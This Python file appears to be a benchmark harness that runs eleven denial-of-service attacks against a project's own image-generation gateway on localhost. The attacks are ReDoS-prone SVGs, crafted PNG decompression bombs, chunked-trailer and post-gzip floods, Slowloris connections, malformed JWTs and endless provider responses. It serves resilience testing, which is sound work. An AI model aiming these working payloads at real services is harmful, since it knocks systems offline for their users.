"""The attacks of the page hostile: denial of service by clients, pages and providers.

Each takes the gateway under attack and ``scale``, the share of the full size.
"""

import base64
import socket
import struct
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urlsplit

import httpx

from scripts.bench.children import Gateway

MODEL = "black-forest-labs/flux-kontext-pro"
MB = 1 << 20


def nothing(edge: Gateway, scale: float) -> None:
    """The baseline."""


def comments(edge: Gateway, scale: float) -> None:
    """ReDoS: many comments before an SVG root element that never comes."""
    _start(edge, f"data:image/svg+xml,{'<!---->' * int(10_000 * scale)}x")


def bombs(edge: Gateway, scale: float) -> None:
    """Decompression bombs: six pictures of 13,300 x 13,300 pixels in 0.7 MB each."""
    source = f"data:image/png;base64,{base64.b64encode(_blank(int(13_300 * scale**0.5))).decode()}"
    for _ in range(6):
        _start(edge, source)


def one_source(edge: Gateway, scale: float) -> None:
    """Amplification: fifty prompts that share one source picture of 0.7 MB."""
    noise = base64.b64encode(zlib.compress(b"x") + bytes(int(0.5 * MB * min(scale, 1)))).decode()
    _start(edge, f"data:image/png;base64,{noise}", prompt=["a fox"] * 50)


def trailers(edge: Gateway, scale: float) -> None:
    """Unauthenticated: a chunked body, then 100 MB of trailer fields."""
    head = _head("POST", "start-generation", "Transfer-Encoding: chunked")
    lines = b"".join(b"x-%d: %b\r\n" % (number, b"a" * 200) for number in range(300))
    _pour(edge, head + b"2\r\n{}\r\n0\r\n", lines, 100 * scale)


def one_trailer(edge: Gateway, scale: float) -> None:
    """Unauthenticated: one trailer field of 20 MB."""
    head = _head("POST", "start-generation", "Transfer-Encoding: chunked")
    _pour(edge, head + b"2\r\n{}\r\n0\r\nx: ", b"a" * 65536, 20 * scale)


def behind_gzip(edge: Gateway, scale: float) -> None:
    """Bytes after the end of a gzip member: they unfold to nothing, so a limit on the output misses them."""
    gzip = zlib.compressobj(wbits=31)
    member = gzip.compress(b"{}") + gzip.flush()
    head = _head(
        "POST", "process-generation/webhook", "Transfer-Encoding: chunked", "Content-Encoding: gzip"
    )
    _pour(edge, head + _chunk(member), _chunk(b"z" * 65536), 40 * scale)


def behind_a_stream(edge: Gateway, scale: float) -> None:
    """HTTP pipelining: a request head without an end behind an open event stream."""
    generation_id = _start(edge, None)
    head = _head("GET", f"start-generation/{generation_id}/events", f"apikey: {edge.anon_key}")
    _pour(edge, head + b"GET /health HTTP/1.1\r\nHost: x\r\nx-long: ", b"a" * 65536, 30 * scale)


def unfinished(edge: Gateway, scale: float) -> None:
    """Slow-request attack (Slowloris): a thousand refused requests whose bodies never end."""
    with _Connections(edge) as opened:
        for _ in range(int(1000 * scale)):
            opened.dial(_head("POST", "start-generation", "Content-Length: 1000") + b"x")


def odd_tokens(edge: Gateway, scale: float) -> None:
    """Malformed JWTs: the header's algorithm is a list."""
    token = b".".join(map(base64.urlsafe_b64encode, (b'{"alg":["x"]}', b"{}", b"x"))).decode()
    headers = {"Authorization": f"Bearer {token.replace('=', '')}"}
    with httpx.Client(timeout=60, headers=headers) as client:
        for _ in range(int(500 * scale)):
            client.post(f"{edge.url}/functions/v1/start-generation")


def endless_answers(edge: Gateway, scale: float) -> None:
    """A hostile or compromised provider: eight polls answered with bodies without an end."""
    for number in range(max(1, int(8 * scale))):
        _start(edge, None, prompt=f"{number} [fault:endless-answer]")
    time.sleep(5 * scale)


ATTACKS: dict[str, Callable[[Gateway, float], None]] = {
    "floor: nothing": nothing,
    "an SVG behind 10,000 comments": comments,
    "six pictures of 13,300² pixels": bombs,
    "50 prompts for one source of 0.7 MB": one_source,
    "100 MB of trailers": trailers,
    "one trailer of 20 MB": one_trailer,
    "40 MB behind a gzip member": behind_gzip,
    "30 MB of head behind an event stream": behind_a_stream,
    "1,000 refused bodies that never end": unfinished,
    "500 tokens with a list as algorithm": odd_tokens,
    "8 endless answers of the provider": endless_answers,
}


def _start(edge: Gateway, source: str | None, **changes: object) -> str:
    """Call start-generation with a source picture, if any; returns the generation_id or "None"."""
    body = {"prompt": "a fox", "model_id": MODEL, **changes}
    answer = httpx.post(
        f"{edge.url}/functions/v1/start-generation",
        json=body if source is None else {**body, "source_image_url": source},
        headers={"Authorization": f"Bearer {edge.anon_key}"},
        timeout=60,
    )
    return str(answer.json().get("generation_id"))


def _head(method: str, path: str, *lines: str) -> bytes:
    return "\r\n".join(
        [f"{method} /functions/v1/{path} HTTP/1.1", "Host: 127.0.0.1", *lines, "", ""]
    ).encode()


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)


def _pour(edge: Gateway, head: bytes, piece: bytes, megabytes: float) -> None:
    """Send ``head``, then repeat ``piece`` up to ``megabytes`` or until the server stops reading."""
    with _Connections(edge) as opened:
        stream = opened.dial(head)
        with suppress(OSError):
            for _ in range(max(1, int(megabytes * MB / len(piece)))):
                stream.sendall(piece)


class _Connections:
    """Raw connections, all closed at the end of the block; responses are never read."""

    def __init__(self, edge: Gateway) -> None:
        self._address = ("127.0.0.1", urlsplit(edge.url).port or 0)
        self._streams: list[socket.socket] = []

    def __enter__(self) -> "_Connections":
        return self

    def dial(self, first: bytes) -> socket.socket:
        stream = socket.create_connection(self._address, timeout=5)
        self._streams.append(stream)
        stream.sendall(first)
        return stream

    def __exit__(self, *_: object) -> None:
        time.sleep(1)  # let the server read what was sent
        for stream in self._streams:
            stream.close()


def _blank(side: int) -> bytes:
    """A PNG of ``side`` × ``side`` transparent pixels, compressed to a thousandth of its decoded size."""
    deflate = zlib.compressobj(9)
    row = bytes(1 + 4 * side)
    data = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()
    size = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    parts = ((b"IHDR", size), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
        for name, content in parts
    )
